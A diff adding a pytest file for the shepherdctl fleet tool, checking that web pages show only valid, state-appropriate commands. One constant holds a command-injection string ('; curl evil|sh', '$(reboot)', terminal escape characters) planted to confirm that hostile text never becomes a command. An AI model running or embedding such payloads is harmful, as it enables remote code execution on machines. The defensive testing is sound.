@@ -1,0 +1,121 @@
+"""The commands that the pages show for what they show: the real command line takes them."""
+
+from uuid import UUID
+
+import pytest
+from shepherd_core.bmdb.machines import pauses
+
+from shepherdctl.options import REASON_TO_WRITE
+from tests.support.bmdb.fleet import HOUR, Fleet
+from tests.support.command_line import CommandLine
+from tests.support.console import Visitor, commands, parsed, plant_hostile_text, words
+
+HOSTILE = "srv-1; curl evil|sh \"'$(reboot)\n\x1b[201~\u202e"
+
+
+def written(line: str) -> str:
+    """Return a command with its reason."""
+    return line.replace(REASON_TO_WRITE, "why")
+
+
+@pytest.fixture
+def machine_id(fleet: Fleet) -> UUID:
+    """Return a machine that fails, but is not held back."""
+    machine_id = fleet.unhealthy_machine()
+    fleet.sql(
+        "INSERT INTO work_backoff (machine_id, process, until, cause, last_interval_seconds) "
+        "VALUES (:id, 'ShepherdRecovery', now() + interval '1 hour', 'SshHostKeyChanged: another', 60)",
+        id=machine_id,
+    )
+    return machine_id
+
+
+def test_every_page_shows_commands_that_can_be_typed(visitor: Visitor, fleet: Fleet) -> None:
+    """Whatever machines, providers and operators wrote, nothing of it is a command."""
+    hostile = plant_hostile_text(fleet, HOSTILE)
+    fleet.sql("INSERT INTO machine_release VALUES (:id, now(), :t, :t)", id=fleet.reporting_machine(60), t=HOSTILE)
+    fleet.sql(
+        "INSERT INTO work_history SELECT :id, 'ShepherdRecovery', 'Started', now() - n * interval '1 second', NULL "
+        "FROM generate_series(1, 500) AS n",
+        id=hostile,
+    )
+    expected = {
+        "/": ["status", "causes", "reconcile"],
+        "/machines": ["machine list", "pause"],
+        f"/machines/{hostile}": ["resume", "machine reboot", "machine release", "logs", "history"],
+        "/work": ["resume", "machine release"],
+    }
+    for path, names in expected.items():
+        assert [parsed(written(line))[0] for line in commands(visitor.read(path))] == names, path
+    filtered = visitor.get("/machines?location=" + HOSTILE).text
+    assert commands(filtered) == []
+    assert "A filter has a character that cannot be typed" in filtered
+
+
+def test_the_commands_of_a_machine_are_for_it_alone(visitor: Visitor, fleet: Fleet, machine_id: UUID) -> None:
+    """Each can be copied, and names the machine."""
+    page = visitor.read(f"/machines/{machine_id}")
+    assert commands(page) == [
+        f"shepherdctl machine retry {machine_id} --reason '…'",
+        f"shepherdctl machine forget-host-key {machine_id} --reason '…'",
+        f"shepherdctl pause --machine {machine_id} --reason '…'",
+        f"shepherdctl machine reboot {machine_id} --reason '…'",
+        f"shepherdctl machine release {machine_id} --reason '…'",
+        f"shepherdctl logs {machine_id}",
+    ]
+    assert page.count(' class="copy"') == 6
+    for line in commands(page):
+        assert parsed(written(line))
+
+
+@pytest.mark.parametrize(
+    ("change", "more", "less"),
+    [
+        ("INSERT INTO machine_quarantine VALUES (:id, now(), '?', '')", {"machine unquarantine"}, set()),
+        ("DELETE FROM work_backoff WHERE machine_id = :id", set(), {"machine retry", "machine forget-host-key"}),
+        ("UPDATE work_backoff SET cause = '?' WHERE machine_id = :id", set(), {"machine forget-host-key"}),
+        ("INSERT INTO pauses (machine_id, owner, reason) VALUES (:id, 'ana', '?')", {"resume"}, {"pause"}),
+        ("INSERT INTO machine_release VALUES (:id, now(), 'ana', '?')", set(), {"machine reboot"}),
+        (
+            "INSERT INTO machine_release VALUES (:id, now(), 'ana', '?', now())",
+            set(),
+            {"machine reboot", "machine release"},
+        ),
+    ],
+)
+def test_the_commands_follow_the_state_of_the_machine(
+    visitor: Visitor, fleet: Fleet, machine_id: UUID, change: str, more: set[str], less: set[str]
+) -> None:
+    """A command that could only be refused is not shown."""
+
+    def names() -> set[str]:
+        return {parsed(written(line))[0] for line in commands(visitor.read(f"/machines/{machine_id}"))}
+
+    before = names()
+    fleet.change(machine_id, change.replace(":id", f"'{machine_id}'"))
+    assert names() == (before | more) - less
+
+
+def test_a_pause_of_a_provider_is_told_from_one_of_the_machine(visitor: Visitor, fleet: Fleet) -> None:
+    """The command that ends it ends it for all of them."""
+    machine_id = fleet.provided_machine()
+    for scope in ({"machine_id": machine_id}, {"provider": "static"}):
+        pauses.pause(fleet.connection, owner="ana", reason="mainboard", **scope)
+    text = visitor.text(f"/machines/{machine_id}")
+    assert "end ana&#39;s pause: mainboard" in text
+    assert "end ana&#39;s pause of provider static: mainboard" in text
+
+
+def test_the_commands_of_a_list_are_for_what_it_shows(visitor: Visitor, fleet: Fleet) -> None:
+    """As their dry runs say."""
+    shepherdctl = CommandLine(fleet.settings)
+    wanted = fleet.locate(fleet.quarantine(fleet.unhealthy_machine(2 * HOUR)), "rack 7")
+    fleet.locate(fleet.reporting_machine(60), "rack 7")
+    fleet.quarantine(fleet.unhealthy_machine(2 * HOUR))
+    found, *others = commands(visitor.read("/machines?location=rack+7&state=quarantined"))
+    assert [each["machine_id"] for each in shepherdctl.load(*words(found))] == [str(wanted)]
+    for line in others:
+        if parsed(written(line))[0] in {"pause", "machine unquarantine"}:
+            shown = shepherdctl.read(*words(written(line)), "--dry-run")
+            assert shown.count(str(wanted)) == 1
+            assert len(shown.splitlines()) == 2
